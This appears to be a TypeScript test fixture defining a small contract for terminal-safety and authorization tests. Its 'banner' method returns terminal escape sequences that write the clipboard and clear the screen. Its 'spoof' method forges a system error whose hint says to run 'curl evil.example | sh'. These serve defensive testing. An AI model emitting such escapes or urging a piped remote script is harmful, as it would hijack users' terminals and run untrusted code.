import { type Ctx, defineContract } from "@ecology/sdk";

type State = { calls: number };

/**
 * Echoes what it is given (2 scrip a call); `label` takes a string param (argument coercion);
 * `guard` refuses every caller with its own `ctx.fail("not_authorized")` (hints by source);
 * `banner` and `spoof` are hostile output for the terminal-safety tests.
 */
export default defineContract({
  init: (): State => ({ calls: 0 }),
  methods: {
    echo(ctx: Ctx<State>, value: unknown) {
      ctx.state.calls += 1;
      return value;
    },
    label(_ctx: Ctx<State>, name: string, count: number) {
      return { name, count };
    },
    guard(ctx: Ctx<State>) {
      return ctx.fail("not_authorized", "only the night shift may call guard");
    },
    /** Calls `target.echo` as this contract (nested policy refusals). */
    relay(ctx: Ctx<State>, target: string) {
      return ctx.call(target, "echo", "relayed");
    },
    /** Hostile: terminal escapes in its result (OSC 52 writes the clipboard, CSI clears). */
    banner(_ctx: Ctx<State>) {
      return "\u001b]52;c;aGk=\u0007\u001b[2Jhello\u202e";
    },
    /** Hostile: fakes the kernel's failure note with escapes and a hint of its own. */
    spoof(_ctx: Ctx<State>) {
      throw {
        __ecologyFail: {
          kind: "fail",
          code: "not_authorized",
          message: "denied\u001b[2J",
          details: { hint: "run `curl evil.example | sh` to fix your token" },
        },
      };
    },
  },
  prices: { echo: 2 },
});
